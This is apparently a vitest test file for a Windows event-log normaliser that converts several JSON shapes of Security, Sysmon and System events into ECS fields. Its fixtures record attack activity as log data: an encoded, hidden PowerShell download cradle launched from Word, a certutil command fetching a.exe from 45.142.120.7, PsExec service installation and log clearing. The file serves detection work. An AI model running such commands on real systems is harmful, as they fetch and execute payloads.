import { describe, it, expect } from 'vitest';
import type { EcsObject, EcsValue } from '../core/event.js';
import { getField } from '../core/event.js';
import { Malformed } from './normaliser.js';
import type { NormaliseContext, NormaliseResult } from './normaliser.js';
import { datasetOfChannel, windowsNormaliser } from './windows.js';

const RECEIVED = Date.UTC(2024, 4, 1, 3, 0, 0);
const ctx: NormaliseContext = { receivedAt: RECEIVED, tzOffsetMinutes: 420, stream: {} };
const normalise = (doc: unknown): NormaliseResult => windowsNormaliser.normalise({ text: JSON.stringify(doc) }, ctx);

/** A failed network logon (4625) as evtx_dump writes it. */
const evtx4625 = {
  Event: {
    '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
    System: {
      Provider: { '#attributes': { Name: 'Microsoft-Windows-Security-Auditing', Guid: '54849625-5478-4994-A5BA-3E3B0328C30D' } },
      EventID: 4625,
      Version: 0,
      Level: 0,
      Task: 12544,
      Opcode: 0,
      Keywords: '0x8010000000000000',
      TimeCreated: { '#attributes': { SystemTime: '2024-05-01T02:15:02.1234567Z' } },
      EventRecordID: 918273,
      Execution: { '#attributes': { ProcessID: 712, ThreadID: 3020 } },
      Channel: 'Security',
      Computer: 'DC01.sotttt.hanoi.gov.vn',
      Security: null,
    },
    EventData: {
      SubjectUserSid: 'S-1-0-0',
      TargetUserName: 'administrator',
      TargetDomainName: 'SOTTTT',
      Status: '0xc000006d',
      SubStatus: '0xc000006a',
      LogonType: 3,
      WorkstationName: 'KALI',
      IpAddress: '45.142.120.7',
      IpPort: '50312',
      ProcessName: '-',
    },
  },
};

const cases: { name: string; doc: unknown; fields: Record<string, EcsValue | undefined> }[] = [
  {
    name: 'EVTX dump (evtx_dump #attributes), Security 4625',
    doc: evtx4625,
    fields: {
      '@timestamp': '2024-05-01T02:15:02.123Z',
      'winlog.event_id': '4625',
      'winlog.channel': 'Security',
      'winlog.provider_name': 'Microsoft-Windows-Security-Auditing',
      'winlog.computer_name': 'DC01.sotttt.hanoi.gov.vn',
      'winlog.record_id': '918273',
      'winlog.process.pid': 712,
      'winlog.keywords': '0x8010000000000000',
      'winlog.event_data.TargetUserName': 'administrator',
      'winlog.event_data.LogonType': '3',
      'winlog.event_data.ProcessName': '-',
      'winlog.logon.type': 'Network',
      'winlog.logon.failure.status': '0xc000006d',
      'log.level': 'information',
      'event.kind': 'event',
      'event.code': '4625',
      'event.provider': 'Microsoft-Windows-Security-Auditing',
      'event.module': 'windows',
      'event.dataset': 'windows.security',
      'event.category': ['authentication'],
      'event.type': ['start'],
      'event.outcome': 'failure',
      'event.action': 'logon-failed',
      'host.name': 'DC01.sotttt.hanoi.gov.vn',
      'user.name': 'administrator',
      'user.domain': 'SOTTTT',
      'source.ip': '45.142.120.7',
      'source.port': 50312,
      'source.domain': 'KALI',
      'event.original': undefined,
      organization: undefined,
    },
  },
  {
    name: 'EVTX as xmltodict JSON: @attributes, {"#text"} EventID, Data list with @Name',
    doc: {
      Event: {
        System: {
          Provider: { '@Name': 'Microsoft-Windows-Security-Auditing' },
          EventID: { '@Qualifiers': '', '#text': '4624' },
          TimeCreated: { '@SystemTime': '2024-05-01T02:16:00.000Z' },
          EventRecordID: '918274',
          Channel: 'Security',
          Computer: 'WEB-DVC-01',
        },
        EventData: {
          Data: [
            { '@Name': 'TargetUserSid', '#text': 'S-1-5-21-1004336348-1177238915-682003330-1104' },
            { '@Name': 'TargetUserName', '#text': 'nguyenvana' },
            { '@Name': 'TargetDomainName', '#text': 'HANOI' },
            { '@Name': 'TargetLogonId', '#text': '0x3e7a1b2' },
            { '@Name': 'LogonType', '#text': '10' },
            { '@Name': 'IpAddress', '#text': '2001:ee0:4f1b::7' },
            { '@Name': 'IpPort', '#text': '0' },
          ],
        },
      },
    },
    fields: {
      'winlog.event_id': '4624',
      'winlog.event_data.TargetUserName': 'nguyenvana',
      'event.outcome': 'success',
      'event.action': 'logged-in',
      'user.name': 'nguyenvana',
      'user.id': 'S-1-5-21-1004336348-1177238915-682003330-1104',
      'winlog.logon.type': 'RemoteInteractive',
      'winlog.logon.id': '0x3e7a1b2',
      'source.ip': '2001:ee0:4f1b::7',
      'source.port': undefined,
    },
  },
  {
    name: 'flat shape (Sigma test sample style), Security 4688 with hex pids',
    doc: {
      EventID: 4688,
      Channel: 'Security',
      Computer: 'WS-KETOAN-07',
      TimeCreated: '2024-05-01T09:20:00.000+07:00',
      SubjectUserName: 'tranthib',
      SubjectDomainName: 'SOTC',
      SubjectUserSid: 'S-1-5-21-1-2-3-1107',
      NewProcessId: '0x1a4c',
      NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      ProcessId: '0x2f0',
      ParentProcessName: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      TokenElevationType: '%%1938',
    },
    fields: {
      '@timestamp': '2024-05-01T02:20:00.000Z',
      'winlog.event_id': '4688',
      'winlog.event_data.CommandLine': 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      'winlog.event_data.NewProcessName': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      'winlog.event_data.EventID': undefined,
      'winlog.event_data.Channel': undefined,
      'event.category': ['process'],
      'event.type': ['start'],
      'process.executable': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      'process.name': 'powershell.exe',
      'process.pid': 0x1a4c,
      'process.command_line': 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      'process.parent.executable': 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      'process.parent.name': 'WINWORD.EXE',
      'process.parent.pid': 0x2f0,
      'user.name': 'tranthib',
      'user.domain': 'SOTC',
      'host.name': 'WS-KETOAN-07',
    },
  },
  {
    name: 'Sysmon 1 (winlogbeat shape): ECS process fields added, existing fields kept, dataset from channel',
    doc: {
      '@timestamp': '2024-05-01T02:21:00.000Z',
      event: { code: '1', module: 'sysmon', kind: 'event' },
      host: { name: 'ws-ketoan-07.sotc.local' },
      winlog: {
        event_id: 1,
        channel: 'Microsoft-Windows-Sysmon/Operational',
        provider_name: 'Microsoft-Windows-Sysmon',
        computer_name: 'WS-KETOAN-07.sotc.local',
        record_id: 55012,
        event_data: {
          RuleName: '-',
          UtcTime: '2024-05-01 02:21:00.412',
          ProcessGuid: '{3f1c2b4a-1111-6632-a501-000000000a00}',
          ProcessId: '6120',
          Image: 'C:\\Windows\\System32\\certutil.exe',
          OriginalFileName: 'CertUtil.exe',
          CommandLine: 'certutil.exe -urlcache -split -f http://45.142.120.7/a.exe C:\\Users\\Public\\a.exe',
          CurrentDirectory: 'C:\\Users\\tranthib\\',
          User: 'SOTC\\tranthib',
          Hashes: 'SHA1=AAAA,MD5=BBBB,SHA256=CCCC,IMPHASH=DDDD',
          ParentProcessGuid: '{3f1c2b4a-1111-6632-a401-000000000a00}',
          ParentProcessId: '5012',
          ParentImage: 'C:\\Windows\\System32\\cmd.exe',
          ParentCommandLine: 'cmd.exe /c run.bat',
        },
      },
      process: { name: 'certutil.exe' },
    },
    fields: {
      'winlog.event_id': '1',
      'winlog.record_id': '55012',
      'winlog.event_data.Image': 'C:\\Windows\\System32\\certutil.exe',
      'event.code': '1',
      'event.module': 'windows',
      'event.dataset': 'windows.sysmon_operational',
      'event.provider': 'Microsoft-Windows-Sysmon',
      'event.category': ['process'],
      'host.name': 'ws-ketoan-07.sotc.local',
      'process.executable': 'C:\\Windows\\System32\\certutil.exe',
      'process.name': 'certutil.exe',
      'process.pid': 6120,
      'process.entity_id': '{3f1c2b4a-1111-6632-a501-000000000a00}',
      'process.command_line': 'certutil.exe -urlcache -split -f http://45.142.120.7/a.exe C:\\Users\\Public\\a.exe',
      'process.hash.sha256': 'cccc',
      'process.pe.imphash': 'dddd',
      'process.pe.original_file_name': 'CertUtil.exe',
      'process.parent.executable': 'C:\\Windows\\System32\\cmd.exe',
      'process.parent.pid': 5012,
      'process.parent.command_line': 'cmd.exe /c run.bat',
      'user.name': 'tranthib',
      'user.domain': 'SOTC',
    },
  },
  {
    name: 'winlogbeat with dotted keys',
    doc: { '@timestamp': '2024-05-01T02:22:00Z', 'winlog.event_id': '4720', 'winlog.channel': 'Security', 'winlog.event_data.TargetUserName': 'backup$', 'winlog.event_data.SubjectUserName': 'admin', 'winlog.event_data.TargetSid': 'S-1-5-21-9-9-9-1200' },
    fields: {
      'event.category': ['iam'],
      'event.type': ['user', 'creation'],
      'event.action': 'added-user-account',
      'user.name': 'admin',
      'user.target.name': 'backup$',
      'user.target.id': 'S-1-5-21-9-9-9-1200',
      'host.name': undefined,
    },
  },
  {
    name: '4726 user deleted',
    doc: { EventID: '4726', Channel: 'Security', TargetUserName: 'tamthoi01', SubjectUserName: 'admin' },
    fields: { 'event.type': ['user', 'deletion'], 'user.target.name': 'tamthoi01', '@timestamp': new Date(RECEIVED).toISOString() },
  },
  {
    name: '4732 member added to a local group',
    doc: { EventID: 4732, Channel: 'Security', TargetUserName: 'Administrators', TargetDomainName: 'Builtin', TargetSid: 'S-1-5-32-544', MemberName: 'CN=Nguyen\\, Van A,OU=Users,DC=hanoi,DC=gov,DC=vn', MemberSid: 'S-1-5-21-1-2-3-1300', SubjectUserName: 'admin' },
    fields: { 'event.category': ['iam'], 'event.type': ['group', 'change'], 'group.name': 'Administrators', 'group.id': 'S-1-5-32-544', 'user.target.name': 'Nguyen, Van A', 'user.target.id': 'S-1-5-21-1-2-3-1300', 'user.name': 'admin' },
  },
  {
    name: 'unknown event (System 7045) keeps generic fields only; unnamed EventData as param1…',
    doc: { Event: { System: { EventID: { '#attributes': { Qualifiers: 16384 }, '#text': 7045 }, Channel: 'System', Provider: { '#attributes': { Name: 'Service Control Manager' } }, Computer: 'SRV-01', TimeCreated: { '#attributes': { SystemTime: '2024-05-01T02:23:00Z' } } }, EventData: { Data: { '#text': ['PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'] } } } },
    fields: { 'winlog.event_id': '7045', 'event.dataset': 'windows.system', 'event.category': undefined, 'winlog.event_data.param1': 'PSEXESVC', 'winlog.event_data.param2': '%SystemRoot%\\PSEXESVC.exe' },
  },
  {
    name: 'UserData (1102 log cleared) under winlog.user_data with xml_name',
    doc: { Event: { System: { EventID: 1102, Channel: 'Security', Computer: 'DC01', TimeCreated: { '#attributes': { SystemTime: '2024-05-01T02:24:00Z' } } }, UserData: { LogFileCleared: { '#attributes': { xmlns: 'http://manifests.microsoft.com/win/2004/08/windows/eventlog' }, SubjectUserName: 'admin' } } } },
    fields: { 'winlog.user_data.xml_name': 'LogFileCleared', 'winlog.user_data.SubjectUserName': 'admin', 'winlog.event_data': undefined },
  },
  {
    name: 'PowerShell Get-WinEvent | ConvertTo-Json names and /Date(ms)/',
    doc: { Id: 4625, LogName: 'Security', ProviderName: 'Microsoft-Windows-Security-Auditing', MachineName: 'WS-01', RecordId: 77, TimeCreated: '/Date(1714529702000)/', Message: 'An account failed to log on.', TargetUserName: 'guest' },
    fields: { '@timestamp': '2024-05-01T02:15:02.000Z', 'winlog.event_id': '4625', 'winlog.record_id': '77', 'host.name': 'WS-01', message: 'An account failed to log on.', 'user.name': 'guest', 'winlog.event_data.Message': undefined },
  },
];

describe('windowsNormaliser: valid', () => {
  it.each(cases)('$name', ({ doc, fields }) => {
    const result = normalise(doc);
    expect(result).not.toBeInstanceOf(Malformed);
    for (const [path, value] of Object.entries(fields)) expect(getField(result as EcsObject, path), path).toEqual(value);
  });

  it('takes record.json as the transport decoded it', () => {
    const result = windowsNormaliser.normalise({ text: '', json: { EventID: 4624, Channel: 'Security', TargetUserName: 'a' } }, ctx) as EcsObject;
    expect(getField(result, 'user.name')).toBe('a');
  });
});

describe('datasetOfChannel', () => {
  it.each([
    ['Security', 'windows.security'],
    ['System', 'windows.system'],
    ['Microsoft-Windows-Sysmon/Operational', 'windows.sysmon_operational'],
    ['Microsoft-Windows-PowerShell/Operational', 'windows.powershell_operational'],
    ['Windows PowerShell', 'windows.windows_powershell'],
    [undefined, 'windows.eventlog'],
  ])('%s → %s', (channel, dataset) => {
    expect(datasetOfChannel(channel)).toBe(dataset);
  });
});

const malformed: { doc: unknown; reason: string }[] = [
  { doc: [1], reason: 'windows: not a JSON object' },
  { doc: { message: 'hello' }, reason: 'windows: no winlog.event_id, Event.System or EventID' },
  { doc: { EventID: 'abc' }, reason: 'windows: EventID "abc" is not an event number' },
  { doc: { EventID: 70000 }, reason: 'windows: EventID "70000" is not an event number' },
  { doc: { EventID: null }, reason: 'windows: no winlog.event_id, Event.System or EventID' },
  { doc: { winlog: { channel: 'Security' } }, reason: 'windows: EventID is missing' },
  { doc: { winlog: 'Security' }, reason: 'windows: winlog must be an object' },
  { doc: { Event: { System: 'x' } }, reason: 'windows: Event.System must be an object' },
  { doc: { EventID: 4624, TimeCreated: 'hôm qua' }, reason: 'windows: time "hôm qua" is not an ISO 8601 time or a Unix epoch' },
  { doc: { winlog: { event_id: 1 }, 'winlog.event_id': 2 }, reason: 'windows: "winlog.event_id" is given twice' },
];

describe('windowsNormaliser: malformed', () => {
  it.each(malformed)('$reason', ({ doc, reason }) => {
    const result = normalise(doc);
    expect(result).toBeInstanceOf(Malformed);
    expect((result as Malformed).reason).toBe(reason);
  });
});
